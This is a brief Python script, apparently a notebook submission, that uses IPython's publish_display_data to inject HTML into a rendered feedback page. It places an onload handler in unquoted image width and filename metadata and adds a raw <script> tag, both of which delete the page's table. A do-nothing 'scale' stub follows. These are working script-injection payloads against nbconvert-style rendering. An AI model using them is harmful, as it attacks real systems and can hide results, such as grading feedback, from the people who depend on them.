"""Write into the feedback page: outputs whose metadata nbconvert puts into a tag without quotes, and HTML."""

from IPython.display import publish_display_data

PICTURE = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
MARKUP = "1 onload=document.querySelector('table').remove()"
for metadata in (
    {"image/png": {"width": MARKUP, "height": 7}},
    {"image/png": {"width": "1 onload=" + MARKUP}, "filenames": {"image/png": "remove().png"}},
    {"image/png": MARKUP},
):
    publish_display_data({"image/png": PICTURE}, metadata)
publish_display_data({"text/html": "<script>document.querySelector('table').remove()</script>", "text/plain": "html"})


def scale(x, w):
    return None
